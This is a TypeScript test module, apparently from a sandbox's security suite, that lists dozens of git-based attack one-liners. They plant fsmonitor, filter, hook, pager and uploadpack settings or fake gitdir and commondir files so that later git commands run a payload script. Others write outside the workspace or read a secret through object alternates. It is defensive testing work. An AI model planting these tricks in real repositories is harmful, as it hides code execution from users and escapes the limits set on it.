import type { AttackClass } from '../attack.ts'

const later = 'git status; git diff; git add -A; git commit -qm later; git log -1'
const evil = 'git config -f e/config core.fsmonitor @WORK/payload.sh'
const filter = '[filter \\"x\\"]\\n\\tclean = @WORK/payload.sh\\n'

const evilRemote = [
  'git config core.repositoryformatversion 1; git config extensions.partialClone origin; git config remote.origin.promisor true',
  'git config remote.origin.url @WORK; git config remote.origin.uploadpack @WORK/payload.sh',
].join('; ')
/** Git starts a monitor without arguments that the payload would understand. */
const program = "printf '#!/bin/sh\\nexec @WORK/payload.sh\\n' > e.sh; chmod +x e.sh"
const made = `${program}; git init -q n; git -C n -c user.name=a -c user.email=a commit -q --allow-empty -m x`
/** The repository above lists it, and so git looks into it there too. */
const listed = 'git update-index --add --cacheinfo 160000,$(git -C n rev-parse HEAD),n'
const monitor = "printf '[core]\\n\\tfsmonitor = @WORK/e.sh\\n'"

/** Git reads it from the index, and fetches it for that. */
const withoutIgnoreFile =
  "echo '*.log' > .gitignore; touch b.log; git add -f .gitignore b.log; git update-index --skip-worktree .gitignore; find $(git rev-parse --git-path objects) -name $(git rev-parse :.gitignore | cut -c3-) -delete; rm .gitignore"
const reading = 'git ls-files --cached --ignored --exclude-standard'

/** What git obeys later because of files in the workspace and its git folder. */
export const repositories: AttackClass = {
  name: 'files that git obeys',
  leak: 'later',
  attacks: [
    {
      name: 'work tree by the configuration',
      line: 'git config core.worktree @OUT; git checkout -qf HEAD -- .',
      leak: 'outside',
    },
    {
      name: 'work tree by a variable',
      line: 'GIT_WORK_TREE=@OUT git checkout -qf HEAD -- .',
      leak: 'outside',
    },
    {
      name: 'git file in place of the folder',
      line: `cp -r .git e; ${evil}; mv .git old; echo 'gitdir: e' > .git`,
      later,
    },
    { name: 'git link in place of the folder', line: `cp -r .git e; ${evil}; mv .git old; ln -s e .git`, later },
    {
      name: 'remote in a file of its own',
      line: "mkdir -p .git/remotes; git init -q --bare e.git; cp payload.sh e.git/hooks/post-receive; printf 'URL: @WORK/e.git\nPush: HEAD:refs/heads/x\n' > .git/remotes/origin",
      later: 'git push origin',
    },
    {
      name: 'remote in a file of the oldest form',
      line: 'mkdir -p .git/branches; git init -q --bare e.git; cp payload.sh e.git/hooks/post-receive; echo @WORK/e.git > .git/branches/origin',
      later: 'git push origin HEAD:refs/heads/x',
    },
    {
      name: 'filter of attributes',
      line: `printf '${filter}' >> .git/config; mkdir -p .git/info; echo '* filter=x' > .git/info/attributes; echo x >> notes.txt`,
      later,
    },
    {
      name: 'filter that the person has',
      line: "mkdir -p .git/info; echo '* filter=x' > .git/info/attributes; echo x >> notes.txt",
      setup: 'git config filter.x.clean @WORK/payload.sh',
      later,
    },
    {
      name: 'attributes of the top folder',
      line: "echo '* filter=x' > .gitattributes; echo x >> notes.txt",
      setup: 'git config filter.x.clean @WORK/payload.sh',
      later,
    },
    {
      name: 'attributes in a file that the configuration names',
      line: "echo '* filter=x' > attrs; echo x >> notes.txt",
      setup: 'git config filter.x.clean @WORK/payload.sh; git config core.attributesFile attrs',
      later,
    },
    ...[
      ['repository', 'touch HEAD objects refs', '.git'],
      ['nested repository', 'git init -q a/n; touch a/n/HEAD a/n/objects a/n/refs', 'a/n/.git'],
      ['repository in a folder', 'git init -q a/n; touch a/HEAD a/objects a/refs', 'a/n/.git'],
      [
        'repository among objects',
        'git init -q a/b/c/d/objects/n; touch a/b/c/d/HEAD a/b/c/d/refs',
        'a/b/c/d/objects/n/.git',
      ],
    ].map(([name = '', setup = '', git = '']) => ({
      name: `${name} that looks like one without a work tree`,
      line: `git config -f ${git}/config core.fsmonitor @WORK/payload.sh`,
      setup,
      later: `cd ${git}/..; git status`,
    })),
    {
      name: 'configuration of a worktree',
      line: "git config extensions.worktreeConfig true; printf '[core]\\n\\tfsmonitor = @WORK/payload.sh\\n' > .git/config.worktree",
      later,
    },
    {
      name: 'configuration of a worktree where it is used',
      line: "printf '[core]\\n\\tfsmonitor = @WORK/payload.sh\\n' > .git/config.worktree",
      setup: 'git config extensions.worktreeConfig true',
      later,
    },
    {
      name: 'configuration of one worktree among many',
      line: 'cp -r .git e; git config -f e/config core.fsmonitor @WORK/payload.sh; for w in .git/worktrees/*; do echo @WORK/e > $w/commondir; done',
      setup:
        'for i in {1..60}; do mkdir -p .git/worktrees/$i; done; git worktree add -q ../w; git worktree add -q ../zw',
      cleanup: 'rm -rf ../w ../zw',
      later: 'git -C ../w status; git -C ../zw status',
    },
    {
      name: 'configuration that a worktree lacks',
      line: "printf '[core]\\n\\tfsmonitor = @WORK/payload.sh\\n' > .git/worktrees/w/config.worktree",
      setup:
        'git config extensions.worktreeConfig true; git worktree add -q ../w; rm -f .git/worktrees/w/config.worktree',
      cleanup: 'rm -rf ../w',
      later: 'git -C ../w status',
    },
    ...[
      ['new repository', `${made}; git -C n config core.fsmonitor @WORK/e.sh; ${listed}`],
      [
        'new repository with a configuration of its worktree',
        `${made}; git -C n config extensions.worktreeConfig true; ${monitor} > n/.git/config.worktree; ${listed}`,
      ],
      [
        'new repository with a long configuration',
        `${made}; { cat n/.git/config; yes '#' | head -c 1100000; printf '\\n'; ${monitor}; } > c; mv c n/.git/config; ${listed}`,
      ],
      [
        'new repository whose folder is in that of the one above',
        `${made}; git -C n config core.fsmonitor @WORK/e.sh; mv n/.git .git/store; echo 'gitdir: ../.git/store' > n/.git; ${listed}`,
      ],
      [
        'new repository whose folder is found by a link',
        `${made}; git -C n config core.fsmonitor @WORK/e.sh; mkdir -p .s/a; mv n/.git .s/store; ln -s ../.s/a n/l; echo 'gitdir: l/../store' > n/.git; ${listed}`,
      ],
      [
        'new repository in two folders',
        `${made}; git -C n config core.fsmonitor @WORK/e.sh; mkdir .s .g; mv n/.git/objects n/.git/refs n/.git/config .s; mv n/.git/HEAD .g; echo ../.s > .g/commondir; rm -r n/.git; echo 'gitdir: ../.g' > n/.git; ${listed}`,
      ],
      [
        'new repository among installed packages',
        `${made}; git -C n config core.fsmonitor @WORK/e.sh; mkdir node_modules; mv n node_modules; ${listed.replaceAll(/\bn\b/g, 'node_modules/n')}`,
      ],
      [
        'hook of a new repository',
        `${made}; cp e.sh n/.git/hooks/post-index-change; ${listed}; touch n/x; git -C n add x`,
      ],
    ].map(([name = '', line = '']) => ({ name: `${name}, from above`, line, later: 'git status; git diff' })),
    {
      name: 'repository whose folder is made by a second command',
      line: `${program}; cp -r .git store; git config -f store/config core.fsmonitor @WORK/e.sh`,
      setup: "mkdir n; echo 'gitdir: ../store' > n/.git",
      later: 'git -C n status',
    },
    {
      name: 'git folder of a submodule that a new repository checks out later',
      line: `${program}; git init -q s; git -C s -c user.name=a -c user.email=a commit -q --allow-empty -m x; git init -q n; cd n; git -c protocol.file.allow=always submodule --quiet add ../s sub; git -c user.name=a -c user.email=a commit -qm x; git submodule --quiet deinit -f sub; cp ../e.sh .git/modules/sub/hooks/post-checkout`,
      later: 'git -C n submodule update --init',
    },
    {
      name: 'folder that is made into a git folder by a HEAD and a commondir',
      line: `${program}; mkdir -p .store/objects .store/refs; echo 'ref: refs/heads/main' > docs/HEAD; echo ../.store > docs/commondir; printf '[core]\\n\\tpager = @WORK/e.sh\\n' > .store/config`,
      later: "cd docs && script -qc 'git config -l' /dev/null",
      needs: ['script'],
    },
    {
      name: 'workspace that is made into a git folder by a HEAD and a commondir',
      line: `${program}; mkdir -p .store/objects .store/refs; echo 'ref: refs/heads/main' > HEAD; echo .store > commondir; printf '[core]\\n\\tpager = @WORK/e.sh\\n' > .store/config`,
      setup: 'rm -rf .git',
      later: "rmdir .git/* .git; script -qc 'git config -l' /dev/null",
      needs: ['script'],
    },
    {
      name: 'settings for git folders that were made into ones before',
      line: `${program}; printf '[core]\\n\\tpager = @WORK/e.sh\\n' > .store/config`,
      setup:
        "mkdir -p .store/objects .store/refs; echo 'ref: refs/heads/main' > docs/HEAD; echo ../.store > docs/commondir; echo > .store/config",
      later: "cd docs && script -qc 'git config -l' /dev/null",
      needs: ['script'],
    },
    {
      name: 'common folder',
      line: `cp -r .git e; ${evil}; echo @WORK/e > .git/commondir`,
      later,
    },
    {
      name: 'included file that is missing',
      line: "printf '[core]\\n\\tfsmonitor = @WORK/payload.sh\\n' > team.gitconfig",
      setup: 'git config include.path ../team.gitconfig',
      later,
    },
    {
      name: 'hooks in a folder of the project',
      line: 'cp payload.sh .hooks/pre-commit',
      setup: 'mkdir .hooks; git config core.hooksPath .hooks',
      later: 'git commit --allow-empty -qm later',
    },
    {
      name: 'hooks in a folder that is missing',
      line: 'mkdir -p tools/hooks; cp payload.sh tools/hooks/pre-commit',
      setup: 'git config core.hooksPath tools/hooks',
      later: 'git commit --allow-empty -qm later',
    },
    {
      name: 'git folder of a submodule',
      line: 'git -C sub config core.fsmonitor @WORK/payload.sh',
      setup: 'git clone -q . ../s; git -c protocol.file.allow=always submodule add -q ../s sub; git commit -qm sub',
      cleanup: 'rm -rf ../s',
      later: 'git -C sub status',
    },
    {
      name: 'git file of a submodule',
      line: `cp -r .git/modules/sub e; ${evil}; git config -f e/config --unset core.worktree; echo 'gitdir: ../e' > sub/.git`,
      setup: 'git clone -q . ../s; git -c protocol.file.allow=always submodule add -q ../s sub; git commit -qm sub',
      cleanup: 'rm -rf ../s',
      later: 'git -C sub status',
    },
    {
      name: 'objects of another repository',
      line: 'echo @OUT/r/.git/objects > .git/objects/info/alternates; git cat-file -p $(cat o)',
      setup:
        'git init -q @OUT/r; cp @OUT/secret.txt @OUT/r/s; git -C @OUT/r add s; git -C @OUT/r rev-parse :s > o; mkdir -p .git/objects/info',
      leak: 'shown',
      isPlainRead: true,
    },
    {
      name: 'objects of another repository by a variable',
      line: 'GIT_ALTERNATE_OBJECT_DIRECTORIES=@OUT/r/.git/objects git cat-file -p $(cat o)',
      setup: 'git init -q @OUT/r; cp @OUT/secret.txt @OUT/r/s; git -C @OUT/r add s; git -C @OUT/r rev-parse :s > o',
      leak: 'shown',
      isPlainRead: true,
    },
    {
      name: 'pipe in place of the configuration',
      line: 'mv .git/config c; mkfifo .git/config; (timeout 5 cat c - <<< "[alias] st = !@WORK/payload.sh" > .git/config &); exit 0',
      leak: 'protected',
    },
    {
      name: 'configuration of the repository above',
      line: 'git config core.fsmonitor @WORK/payload.sh; cp ../payload.sh ../.git/hooks/pre-commit',
      setup: 'mkdir -p .git/hooks; touch .git/hooks/a.sample',
      cwd: '@WORK/docs',
      later,
    },
    {
      name: 'workspace that is made into a bare repository, for a snapshot',
      line: `git init -q --bare e; export GIT_DIR=@WORK/e GIT_WORK_TREE=@WORK; git config core.bare false; git config core.worktree @WORK; ${evilRemote}; ${withoutIgnoreFile}; mv e/* .`,
      setup: 'rm -rf .git',
      later: reading,
      snapshot: true,
    },
    {
      name: 'objects that are missing, for a snapshot',
      line: 'touch c.log',
      setup: `${evilRemote}; ${withoutIgnoreFile}`,
      later: reading,
      snapshot: true,
    },
    {
      name: 'repository in place of a file, for a snapshot',
      line: 'rm -rf notes.txt; git init -q notes.txt; cd notes.txt; echo a > a; git add a; git -c user.name=a -c user.email=a commit -qm n; git config core.fsmonitor @WORK/payload.sh',
      later: 'git -C notes.txt status',
      snapshot: true,
    },
  ],
}
